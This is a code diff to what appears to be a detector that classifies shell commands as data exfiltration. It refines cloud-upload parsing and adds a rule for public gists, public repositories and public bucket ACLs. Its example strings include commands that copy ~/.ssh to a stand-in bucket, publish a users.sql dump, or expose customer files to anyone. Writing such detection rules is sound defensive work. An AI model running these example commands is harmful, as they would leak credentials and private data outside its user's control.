@@ -149,7 +149,7 @@ const cloudUpload: CommandRule = {
     let sources: string[] = [];
     let dest: string | undefined;
     if ((inv.name === "aws" && t[0] === "s3" && (t[1] === "cp" || t[1] === "sync" || t[1] === "mv")) || (inv.name === "gsutil" && ["cp", "rsync", "mv"].includes(t.find((a) => !a.startsWith("-")) ?? "")) || (inv.name === "gcloud" && t.includes("storage") && t.includes("cp"))) {
-      const ops = t.filter((a) => !a.startsWith("-") && !["s3", "cp", "sync", "mv", "rsync", "storage"].includes(a));
+      const ops = cloudOperands(t).filter((a) => !["s3", "cp", "sync", "mv", "rsync", "storage"].includes(a));
       dest = ops[ops.length - 1];
       sources = ops.slice(0, -1);
     } else if (inv.name === "rclone" && ["copy", "sync", "move", "copyto"].includes(t[0] ?? "")) {
@@ -162,10 +162,12 @@ const cloudUpload: CommandRule = {
     }
     if (!dest || !(CLOUD.test(dest) || (inv.name === "rclone" && /^[\w-]+:/.test(dest))) || sources.some((s) => CLOUD.test(s)) || sources.length === 0) return undefined;
     const action = exfil(dest, "cloud", sources);
+    const acl = publicAcl(t);
+    if (acl) return { action: { ...action, target: { ...action.target, public: true, external: true } }, reason: `uploads ${describe(sources, "files")} to ${shown(dest)} readable by anyone (${acl}): ${kind(action, "T1567.002")}` };
     return { action, reason: `uploads ${describe(sources, "files")} to cloud storage ${shown(dest)}: ${kind(action, "T1567.002")}` };
   },
   examples: {
-    match: [`aws s3 cp ~/.ssh s3://drop-bucket/k --recursive`, `gsutil cp /tmp/dump.sql gs://other-bucket/`, `rclone copy ~/Documents mega:backup`],
+    match: [`aws s3 cp ~/.ssh s3://drop-bucket/k --recursive`, `gsutil cp /tmp/dump.sql gs://other-bucket/`, `rclone copy ~/Documents mega:backup`, `aws s3 cp /home/ubuntu/exports s3://partner-drop/ --recursive --acl public-read`, `aws s3 sync --region eu-west-1 ~/reports s3://b/r`],
     noMatch: [`aws s3 ls s3://bucket`, `aws s3 cp s3://bucket/data.csv ./data.csv`, `gsutil ls gs://b`],
   },
 };
@@ -235,4 +237,71 @@ const dnsExfil: CommandRule = {
   },
 };
 
-export const exfiltrationRules: readonly CommandRule[] = [httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil];
+
+/**
+ * The operands of an `aws s3` / `gsutil` / `gcloud storage` command line: a long option takes the
+ * next word as its value (`--acl public-read`, `--region eu-west-1`) unless it is one of the
+ * switches that take none, so an option's value is never read as the source or the destination.
+ */
+const CLOUD_SWITCHES = new Set(["--recursive", "--dryrun", "--dry-run", "--quiet", "--no-progress", "--only-show-errors", "--follow-symlinks", "--no-follow-symlinks", "--delete", "--exact-timestamps", "--size-only", "--no-guess-mime-type", "--force-glacier-transfer", "--ignore-glacier-warnings", "--no-sign-request", "--no-verify-ssl", "--debug", "--no-paginate", "--no-clobber", "--continue-on-error", "--public", "--private", "--internal", "--web", "--clone", "--push"]);
+function cloudOperands(args: readonly string[]): string[] {
+  const out: string[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (a.startsWith("--")) {
+      if (!a.includes("=") && !CLOUD_SWITCHES.has(a)) i++;
+      continue;
+    }
+    if (a.startsWith("-")) continue;
+    out.push(a);
+  }
+  return out;
+}
+
+/** A canned ACL or grant that lets anyone read what is uploaded or changed. */
+const PUBLIC_ACL = /^(public-read|public-read-write|publicRead|publicReadWrite|authenticated-read|AllUsers:[RWO]\w*|allUsers:\w+|allAuthenticatedUsers:\w+)$|uri=https?:\/\/acs\.amazonaws\.com\/groups\/global\/(AllUsers|AuthenticatedUsers)/;
+function publicAcl(args: readonly string[]): string | undefined {
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    const value = a.startsWith("--acl=") || a.startsWith("--predefined-acl=") || a.startsWith("--canned-acl=") ? a.slice(a.indexOf("=") + 1) : ["--acl", "-a", "--predefined-acl", "--canned-acl", "--grants", "--grant-read", "-u", "--member"].includes(a) ? args[i + 1] : undefined;
+    if (value !== undefined && PUBLIC_ACL.test(value)) return `${a.split("=")[0]} ${value}`;
+  }
+  return undefined;
+}
+
+/**
+ * Making data public on a cloud store or a code host: a public ACL on a bucket or object, a public
+ * gist, a repository created or switched to public. Once public, anyone may have copied it: it
+ * cannot be taken back. What is published decides how hard (a home directory's files are
+ * exfiltration, the project's own files a pause).
+ */
+const publish: CommandRule = {
+  id: "exfiltration.make-public",
+  tactic: TACTIC,
+  technique: "T1567",
+  match(inv) {
+    const t = inv.args;
+    const ops = cloudOperands(t);
+    let what: string | undefined;
+    let sources: string[] = [];
+    if (inv.name === "gh" && ops[0] === "gist" && ops[1] === "create" && t.some((a) => a === "--public" || a === "-p")) {
+      what = "a public gist";
+      // gh gist create [-d desc] [-f name] [-p] [-w] files…: the files are what is published.
+      sources = t.filter((a, i) => !a.startsWith("-") && !["-d", "--desc", "-f", "--filename"].includes(t[i - 1] ?? "")).slice(2);
+    } else if (inv.name === "gh" && ops[0] === "repo" && (ops[1] === "create" && t.includes("--public") || ops[1] === "edit" && (t.includes("--visibility=public") || t[t.indexOf("--visibility") + 1] === "public"))) {
+      what = `the repository ${ops[2] ?? "here"}, public`;
+    } else if ((inv.name === "aws" && t[0] === "s3api" && /^put-(bucket|object)-acl$/.test(t[1] ?? "")) || (inv.name === "gsutil" && /^(acl|defacl|iam)$/.test(ops[0] ?? ""))) {
+      const acl = publicAcl(t) ?? ops.find((o) => /^(allUsers|AllUsers|allAuthenticatedUsers):/.test(o));
+      if (!acl) return undefined;
+      what = `${ops[ops.length - 1] ?? "a bucket"} readable by anyone (${acl})`;
+    } else return undefined;
+    const action = exfil(what, "public", sources);
+    return { action: { ...action, target: { ...action.target, public: true, external: true } }, reason: `makes ${what}${sources.length ? ` of ${describe(sources, "")}` : ""}: anyone can read it from now on (T1567)` };
+  },
+  examples: {
+    match: [`gh gist create --public --desc "dump" exports/users.sql`, `gh repo edit acme/internal-admin --visibility public`, `gh repo create acme/tools --public --source .`, `aws s3api put-bucket-acl --bucket acme-uploads --acl public-read`, `gsutil iam ch allUsers:objectViewer gs://acme-exports`, `gsutil acl ch -u AllUsers:R gs://acme-exports/customers.csv`],
+    noMatch: [`gh gist create notes.md`, `gh repo create acme/tools --private`, `gh repo view acme/tools`, `aws s3api get-bucket-acl --bucket b`, `gsutil acl get gs://b`, `aws s3api put-bucket-acl --bucket b --acl private`],
+  },
+};
+
+export const exfiltrationRules: readonly CommandRule[] = [httpUpload, remoteCopy, cloudUpload, socketSend, dnsExfil, publish];
